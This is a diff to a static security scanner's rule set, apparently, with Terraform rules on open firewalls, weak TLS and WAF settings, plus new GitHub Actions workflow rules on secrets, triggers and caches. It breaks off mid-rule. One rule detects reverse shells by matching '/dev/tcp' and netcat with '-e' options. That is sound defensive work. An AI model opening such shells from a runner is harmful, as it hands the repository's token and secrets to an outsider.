+      "acl-ingress:aws_network_acl_rule"
      ],
      "where": [
       {
@@ -46389,36 +47318,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "acl-ingress"
-     ],
-     "where": [
-      {
-       "path": "peers[*]",
-       "matches": "^(?:0\\.0\\.0\\.0/0|::/0)$"
-      },
-      {
-       "path": "ports[*]",
-       "where": [
-        {
-         "not": {
-          "path": "from",
-          "is": [
-           80,
-           443,
-           1024,
-           32768
-          ]
-         }
-        }
-       ]
-      }
-     ],
-     "message": "{name} lets the whole internet in.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_compute_firewall"
      ],
      "where": [
@@ -46450,6 +47349,64 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} names no source: it lets everybody in.",
      "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "firewall-ingress"
+     ],
+     "where": [
+      {
+       "path": "peers[*]",
+       "matches": "^(?:0\\.0\\.0\\.0/0|::/0|0000:0000:0000:0000:0000:0000:0000:0000/0|\\*|any|internet|0\\.0\\.0\\.0|<nw>/0|/0)$"
+      },
+      {
+       "path": "ports[*]",
+       "where": [
+        {
+         "path": "from",
+         "is": 80
+        },
+        {
+         "path": "to",
+         "is": 80
+        }
+       ]
+      }
+     ],
+     "message": "{name} lets the whole internet in on port 80, where nothing is encrypted.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "acl-ingress:aws_network_acl",
+      "acl-ingress:aws_network_acl_rule"
+     ],
+     "where": [
+      {
+       "path": "peers[*]",
+       "matches": "^(?:0\\.0\\.0\\.0/0|::/0)$"
+      },
+      {
+       "path": "ports[*]",
+       "where": [
+        {
+         "not": {
+          "path": "from",
+          "is": [
+           80,
+           443,
+           1024,
+           32768
+          ]
+         }
+        }
+       ]
+      }
+     ],
+     "message": "{name} lets the whole internet in.",
+     "severity": "low"
     }
    ],
    "languages": [
@@ -46876,7 +47833,7 @@ export const ruleSet: RuleSet = {
    "title": "Secret without a content type",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     1059
    ],
@@ -47090,6 +48047,18 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_cognito_user_pool"
+     ],
+     "where": [
+      {
+       "path": "password_policy.minimum_length",
+       "below": 8
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_iam_account_password_policy"
      ],
      "where": [
@@ -47100,19 +48069,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_iam_account_password_policy"
-     ],
-     "where": [
-      {
-       "path": "password_reuse_prevention",
-       "below": 24
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -47200,14 +48156,16 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_cognito_user_pool"
+      "aws_iam_account_password_policy"
      ],
      "where": [
       {
-       "path": "password_policy.minimum_length",
-       "below": 8
+       "path": "password_reuse_prevention",
+       "below": 24
       }
-     ]
+     ],
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -47371,20 +48329,6 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "viewer_certificate[*].cloudfront_default_certificate",
-       "is": true
-      }
-     ],
-     "message": "{name} uses the certificate of CloudFront, which accepts TLS 1.0.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudfront_distribution"
-     ],
-     "where": [
-      {
        "path": "origin[*].custom_origin_config[*].origin_ssl_protocols[*]",
        "is": [
         "SSLv3",
@@ -47441,36 +48385,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_transfer_server"
-     ],
-     "where": [
-      {
-       "path": "security_policy_name",
-       "default": "TransferSecurityPolicy-2018-11",
-       "is": [
-        "TransferSecurityPolicy-2018-11",
-        "TransferSecurityPolicy-2020-06"
-       ]
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_iot_domain_configuration"
-     ],
-     "where": [
-      {
-       "path": "tls_config[*].security_policy",
-       "matches": "TLS12_1_0|TLS10|TLS11"
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_storage_account"
      ],
      "where": [
@@ -47517,20 +48431,6 @@ export const ruleSet: RuleSet = {
        ]
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_redis_cache"
-     ],
-     "where": [
-      {
-       "path": "minimum_tls_version",
-       "default": "1.0",
-       "is": "1.0"
-      }
-     ],
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -47740,6 +48640,76 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_cloudsearch_domain"
+     ],
+     "where": [
+      {
+       "path": "endpoint_options[*].tls_security_policy",
+       "is": "Policy-Min-TLS-1-0-2019-07"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudfront_distribution"
+     ],
+     "where": [
+      {
+       "path": "viewer_certificate[*].cloudfront_default_certificate",
+       "is": true
+      }
+     ],
+     "message": "{name} uses the certificate of CloudFront, which accepts TLS 1.0.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_transfer_server"
+     ],
+     "where": [
+      {
+       "path": "security_policy_name",
+       "default": "TransferSecurityPolicy-2018-11",
+       "is": [
+        "TransferSecurityPolicy-2018-11",
+        "TransferSecurityPolicy-2020-06"
+       ]
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_iot_domain_configuration"
+     ],
+     "where": [
+      {
+       "path": "tls_config[*].security_policy",
+       "matches": "TLS12_1_0|TLS10|TLS11"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_redis_cache"
+     ],
+     "where": [
+      {
+       "path": "minimum_tls_version",
+       "default": "1.0",
+       "is": "1.0"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "google_compute_ssl_policy"
      ],
      "where": [
@@ -47765,18 +48735,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} names no ssl_policy: the default accepts TLS 1.0.",
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudsearch_domain"
-     ],
-     "where": [
-      {
-       "path": "endpoint_options[*].tls_security_policy",
-       "is": "Policy-Min-TLS-1-0-2019-07"
-      }
-     ]
     }
    ],
    "languages": [
@@ -47821,6 +48779,38 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_application_gateway"
+     ],
+     "where": [
+      {
+       "path": "waf_configuration[*].enabled",
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_web_application_firewall_policy",
+      "azurerm_frontdoor_firewall_policy",
+      "azurerm_cdn_frontdoor_firewall_policy"
+     ],
+     "where": [
+      {
+       "path": [
+        "policy_settings[*].enabled",
+        "enabled"
+       ],
+       "is": false
+      }
+     ],
+     "message": "{name} is switched off.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_cloudfront_distribution"
      ],
      "where": [
@@ -47830,64 +48820,6 @@ export const ruleSet: RuleSet = {
        "is": ""
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_api_gateway_stage"
-     ],
-     "where": [
-      {
-       "none": {
-        "types": [
-         "aws_wafv2_web_acl_association",
-         "aws_wafregional_web_acl_association"
-        ],
-        "link": [
-         {
-          "other": "resource_arn",
-          "by": "reference"
-         }
-        ]
-       }
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb",
-      "aws_alb"
-     ],
-     "where": [
-      {
-       "path": "internal",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": "load_balancer_type",
-       "default": "application",
-       "is": "application"
-      },
-      {
-       "none": {
-        "types": [
-         "aws_wafv2_web_acl_association",
-         "aws_wafregional_web_acl_association"
-        ],
-        "link": [
-         {
-          "other": "resource_arn",
-          "by": "reference"
-         }
-        ]
-       }
-      }
-     ],
-     "severity": "info",
-     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -47905,19 +48837,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} has no rules: it lets everything through."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_application_gateway"
-     ],
-     "where": [
-      {
-       "path": "waf_configuration[*].enabled",
-       "is": false
-      }
-     ],
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -47968,25 +48887,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_web_application_firewall_policy",
-      "azurerm_frontdoor_firewall_policy",
-      "azurerm_cdn_frontdoor_firewall_policy"
-     ],
-     "where": [
-      {
-       "path": [
-        "policy_settings[*].enabled",
-        "enabled"
-       ],
-       "is": false
-      }
-     ],
-     "message": "{name} is switched off.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_frontdoor"
      ],
      "where": [
@@ -48000,6 +48900,65 @@ export const ruleSet: RuleSet = {
        ]
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_api_gateway_stage"
+     ],
+     "where": [
+      {
+       "none": {
+        "types": [
+         "aws_wafv2_web_acl_association",
+         "aws_wafregional_web_acl_association"
+        ],
+        "link": [
+         {
+          "other": "resource_arn",
+          "by": "reference"
+         }
+        ]
+       }
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb",
+      "aws_alb"
+     ],
+     "where": [
+      {
+       "path": "internal",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": "load_balancer_type",
+       "default": "application",
+       "is": "application"
+      },
+      {
+       "none": {
+        "types": [
+         "aws_wafv2_web_acl_association",
+         "aws_wafregional_web_acl_association"
+        ],
+        "link": [
+         {
+          "other": "resource_arn",
+          "by": "reference"
+         }
+        ]
+       }
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -48187,6 +49146,1819 @@ export const ruleSet: RuleSet = {
       "title": "Run inside of a container",
       "set": "securityContext.windowsOptions.hostProcess",
       "to": "false"
+     }
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-all-secrets",
+   "title": "All secrets in one value",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    522,
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-overprovisioned-secrets",
+    "zizmor-unredacted-secrets"
+   ],
+   "message": "This expression reaches all secrets of the repository (`{value}`).",
+   "why": "GitHub loads the secrets that a workflow names. An expression that could mean any loads all of them into the runner's memory, and `fromJSON(secrets.x)` makes parts that the log does not hide.",
+   "fix": "Name the secret that is needed.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step",
+      "reusable-job"
+     ],
+     "each": "with{*}",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "expressions[*]",
+     "where": [
+      {
+       "matches": "tojson\\(\\s*secrets\\s*\\)|\\bsecrets\\[(?!.?['\"])"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{*}",
+     "where": [
+      {
+       "matches": "fromjson\\(\\s*secrets\\."
+      }
+     ],
+     "severity": "low"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-artifact-of-strangers",
+   "title": "Artifact of strangers used",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    829,
+    494
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-artipacked",
+    "CodeQL-artifact-poisoning",
+    "CICD-SEC-9"
+   ],
+   "message": "The artifact comes from a run that a stranger's pull request may have made.",
+   "why": "`workflow_run` has your rights, while the run before it ran the pull request's code, which put into the artifact what it liked: a script, an executable, a number that is none.",
+   "fix": "Unpack it into a folder of its own, check what is in it, and run nothing of it.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/download-artifact",
+        "dawidd6/action-download-artifact",
+        "aochmann/actions-download-artifact"
+       ]
+      },
+      {
+       "path": "^^triggers.workflow_run",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "commands[*].text",
+       "matches": "^gh run download"
+      },
+      {
+       "path": "^^triggers.workflow_run",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-cache-poisoning",
+   "title": "Release built from a shared cache",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    345,
+    829
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "zizmor-cache-poisoning",
+    "CICD-SEC-9"
+   ],
+   "message": "`{value}` fills a release from a cache that other workflows write.",
+   "why": "Any workflow on the default branch can write the cache, one that a stranger has broken into as well. What is published would be built from what he left there.",
+   "fix": "Do without a cache in the workflow that publishes.",
+   "references": [
+    "https://docs.zizmor.sh/audits/#cache-poisoning"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "any": [
+        {
+         "path": "^^triggers.release",
+         "present": true
+        },
+        {
+         "path": "^^triggers.push.tags",
+         "present": true
+        }
+       ]
+      },
+      {
+       "any": [
+        {
+         "path": "action",
+         "is": [
+          "actions/cache",
+          "actions/cache/restore",
+          "Swatinem/rust-cache",
+          "mozilla-actions/sccache-action"
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "action",
+           "matches": "^(?:actions/setup-(?:node|python|java|dotnet)|ruby/setup-ruby|astral-sh/setup-uv|gradle/actions/setup-gradle)$"
+          },
+          {
+           "path": [
+            "with.cache",
+            "with.bundler-cache",
+            "with.enable-cache"
+           ],
+           "matches": "^(?!false$)"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "action",
+           "is": "actions/setup-go"
+          },
+          {
+           "path": "with.cache",
+           "default": true,
+           "is": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-comment-command",
+   "title": "Anybody may give this command",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    862
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CICD-SEC-4"
+   ],
+   "message": "`{name}` runs at anybody's comment: nothing looks at who wrote it.",
+   "why": "On a public repository everybody may comment. A job that does something on a comment does it for everybody, with your token.",
+   "fix": "Ask in `if` for `github.event.comment.author_association` to be `OWNER`, `MEMBER` or `COLLABORATOR`.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "steps-job"
+     ],
+     "where": [
+      {
+       "path": "^triggers.issue_comment",
+       "present": true
+      },
+      {
+       "path": "if",
+       "default": "none",
+       "matches": "^(?!.*(?:author_association|actor|user\\.login|sender|needs\\.|permission|false))"
+      },
+      {
+       "not": {
+        "path": "steps[*].if",
+        "matches": "author_association|actor|user\\.login|permission"
+       }
+      },
+      {
+       "not": {
+        "path": "steps[*].uses",
+        "matches": "permission|slash-command|command|check-user"
+       }
+      },
+      {
+       "path": "needs",
+       "absent": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-dangerous-trigger",
+   "title": "Trigger with your rights",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    829
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "zizmor-dangerous-triggers",
+    "CICD-SEC-4"
+   ],
+   "message": "`{key}` starts this workflow for strangers, with your secrets and a token that may write.",
+   "why": "Workflows of this trigger run in the name of your repository, though others cause them. That is safe as long as nothing of theirs is run, downloaded and used, or pasted into a script.",
+   "fix": "Use `pull_request` where the secrets are not needed.",
+   "references": [
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.pull_request_target",
+       "present": true
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.workflow_run",
+       "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-deprecated-action",
+   "title": "Action out of service",
+   "category": "security",
+   "severity": "low",
+   "confidence": "high",
+   "cwe": [
+    477,
+    1104
+   ],
+   "owasp": [
+    "A06:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "actionlint-action",
+    "zizmor-archived-uses"
+   ],
+   "message": "`{value}` is no longer kept up; GitHub refuses or replaces it.",
+   "why": "Old versions run on a Node that gets no more mends, and versions of the artifact actions before 4 no longer work at all.",
+   "fix": "Use a current version.",
+   "references": [
+    "https://github.blog/changelog/2024-04-16-deprecation-notice-v3-of-the-artifact-actions/"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/upload-artifact",
+        "actions/download-artifact"
+       ]
+      },
+      {
+       "path": "ref",
+       "matches": "^v[123](?:\\.|$)"
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": [
+        "actions/checkout",
+        "actions/cache",
+        "actions/setup-node",
+        "actions/setup-python",
+        "actions/setup-java",
+        "actions/setup-go",
+        "actions/setup-dotnet"
+       ]
+      },
+      {
+       "path": "ref",
+       "matches": "^v[12](?:\\.|$)"
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "matches": "^(?:actions/(?:create-release|upload-release-asset|setup-ruby)|actions-rs/[\\w-]{1,40})$"
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-dispatch-input",
+   "title": "Build that can be steered",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    16
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "CKV_GHA_7",
+    "SLSA"
+   ],
+   "message": "Whoever starts `{name}` by hand can change what it builds.",
+   "why": "SLSA asks that what comes out depends on the source alone, and not on values that somebody types in.",
+   "fix": "Do without inputs in the workflow that builds releases.",
+   "references": [
+    "https://slsa.dev/spec/v1.0/requirements"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "triggers.workflow_dispatch.inputs{*}",
+       "present": true
+      }
+     ],
+     "at": "triggers.workflow_dispatch.inputs"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-environment-write",
+   "title": "Environment written from outside",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    94,
+    454
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "zizmor-github-env"
+   ],
+   "message": "What this step computes becomes a variable or a path of all later steps, in a workflow that strangers start.",
+   "why": "Who controls one line of what is written sets `LD_PRELOAD` or `NODE_OPTIONS` by a line break, and runs code with the workflow's rights.",
+   "fix": "Use a step's output (`$GITHUB_OUTPUT`) for data, and check it before.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "check": "writes-environment"
+      },
+      {
+       "path": "^^triggers{~^(?:pull_request_target|workflow_run|issue_comment)$}",
+       "present": true
+      }
+     ],
+     "at": "run"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-hard-coded-secret",
+   "title": "Secret written into a workflow",
+   "category": "security",
+   "severity": "high",
+   "confidence": "medium",
+   "cwe": [
+    798,
+    259
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-hardcoded-container-credentials",
+    "CICD-SEC-6"
+   ],
+   "message": "`{key}` is a secret whose value stands in this file.",
+   "why": "Whoever reads the repository, or once had a copy, has the secret.",
+   "fix": "Put it into the repository's secrets, use `${{ secrets.NAME }}`, and change it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "each": "container.credentials.password",
+     "where": [
+      {
+       "matches": "^(?!\\$\\{\\{)\\S"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "job"
+     ],
+     "each": "services{*}.credentials.password",
+     "where": [
+      {
+       "matches": "^(?!\\$\\{\\{)\\S"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow",
+      "job",
+      "step"
+     ],
+     "each": "env{~(?:^|_)(?:password|passwd|passphrase|secret|token|api_?key|access_?key|private_?key|secret_?key|client_?secret)$}",
+     "where": [
+      {
+       "matches": "^[^\\s$<]{8,}$"
+      },
+      {
+       "not": {
+        "matches": "^(?:postgres|password|changeme|example|dummy|test|root|admin|your|xxx|fake|none|null|false|true|mysql|secret|ci-|/|\\./|https?:)"
+       }
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "each": "with{~(?:^|[_-])(?:password|passphrase|secret|token|api[_-]?key|access[_-]?key|secret[_-]?access[_-]?key|private[_-]?key|client[_-]?secret)$}",
+     "where": [
+      {
+       "matches": "^[^\\s$<]{8,}$"
+      },
+      {
+       "not": {
+        "matches": "^(?:postgres|password|changeme|example|dummy|test|root|admin|your|xxx|fake|none|null|false|true|mysql|secret|ci-|/|\\./|https?:)"
+       }
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-long-lived-credential",
+   "title": "Password where a token would do",
+   "category": "security",
+   "severity": "info",
+   "confidence": "medium",
+   "cwe": [
+    798,
+    287
+   ],
+   "owasp": [
+    "A07:2021"
+   ],
+   "tags": [
+    "workflow",
+    "secrets",
+    "zizmor-use-trusted-publishing",
+    "GitHub-oidc"
+   ],
+   "message": "`{value}` is used with a secret that lasts, though it can prove itself by the run's own identity.",
+   "why": "A stored key is good for whoever gets it until somebody changes it. An identity token is good for one run.",
+   "fix": "Use OpenID Connect: `permissions: { id-token: write }` and the provider's role.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "pypa/gh-action-pypi-publish"
+      },
+      {
+       "path": "with.password",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "uses-step"
+     ],
+     "where": [
+      {
+       "path": "action",
+       "is": "aws-actions/configure-aws-credentials"
+      },
+      {
+       "path": "with.aws-secret-access-key",
+       "present": true
+      }
+     ],
+     "at": "uses"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-package-without-checks",
+   "title": "Package taken without its lock",
+   "category": "security",
+   "severity": "info",
+   "confidence": "medium",
+   "cwe": [
+    1357
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "supply-chain",
+    "Scorecard-pinned-dependencies"
+   ],
+   "message": "`{value}` installs what is newest, not what was tested.",
+   "why": "Without the lock file a new version of any dependency, a stolen one as well, runs in the job at once.",
+   "fix": "Use `npm ci`, `pnpm install --frozen-lockfile` or `pip install --require-hashes`.",
+   "references": [
+    "https://docs.npmjs.com/cli/commands/npm-ci"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": "npm"
+      },
+      {
+       "path": "subcommand",
+       "is": [
+        "install",
+        "i"
+       ]
+      },
+      {
+       "path": "operands[0]",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "options[*]",
+        "is": [
+         "-g",
+         "--global",
+         "--package-lock-only"
+        ]
+       }
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-permissions-missing",
+   "title": "Rights of the token not stated",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250,
+    732
+   ],
+   "owasp": [
+    "A01:2021"
+   ],
+   "tags": [
+    "workflow",
+    "permissions",
+    "zizmor-excessive-permissions",
+    "Scorecard-token-permissions",
+    "CICD-SEC-5"
+   ],
+   "message": "`{name}` does not say what its token may do; the repository's setting decides, often everything.",
+   "why": "Repositories from before 2023 give the token of a workflow the right to write nearly everything unless the workflow says otherwise.",
+   "fix": "Write `permissions: { contents: read }` at the top, and more for the job that needs it.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication",
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "where": [
+      {
+       "path": "permissions",
+       "absent": true
+      },
+      {
+       "path": "jobs{*}",
+       "where": [
+        {
+         "path": "permissions",
+         "absent": true
+        }
+       ]
+      }
+     ],
+     "unless": [
+      {
+       "all": [
+        {
+         "path": "triggers.workflow_call",
+         "present": true
+        },
+        {
+         "not": {
+          "path": "triggers{~^(?!workflow_call$)}",
+          "present": true
+         }
+        }
+       ]
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "workflow"
+     ],
+     "each": "permissions{~^(?:contents|actions|packages|id-token|deployments|pull-requests|issues|checks|statuses|security-events|pages|attestations|repository-projects|discussions)$}",
+     "where": [
+      {
+       "is": "write"
+      },
+      {
+       "check": "several-jobs"
+      }
+     ],
+     "message": "Every job gets `{key}: write`; give it to the one that needs it."
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-reverse-shell",
+   "title": "Connection out to a stranger",
+   "category": "security",
+   "severity": "critical",
+   "confidence": "medium",
+   "cwe": [
+    506
+   ],
+   "owasp": [
+    "A08:2021"
+   ],
+   "tags": [
+    "workflow",
+    "CKV_GHA_4"
+   ],
+   "message": "This step opens a shell to somebody outside.",
+   "why": "A shell whose input and output go to the network gives whoever listens there the runner, its token and its secrets. It is the mark of a taken over workflow.",
+   "fix": "Take it out, find out who put it in, and change every secret of the repository.",
+   "references": [
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
+   ],
+   "match": [
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "where": [
+      {
+       "path": "run",
+       "matches": "/dev/(?:tcp|udp)/"
+      }
+     ]
+    },
+    {
+     "format": "actions",
+     "resource": [
+      "run-step"
+     ],
+     "each": "commands[*]",
+     "where": [
+      {
+       "path": "name",
+       "is": [
+        "nc",
+        "ncat",
+        "netcat"
+       ]
+      },
+      {
+       "path": "options[*]",
+       "is": [
+        "-e",
+        "-c",
+        "--exec",
+        "--sh-exec"
+       ]
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "workflow-script-injection",
+   "title": "Script injection by an expression",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    94,
+    78
+   ],
+   "owasp": [
+    "A03:2021"
+   ],
+   "tags": [
+    "workflow",
+    "injection",
+    "zizmor-template-injection",
+    "CKV_GHA_2",
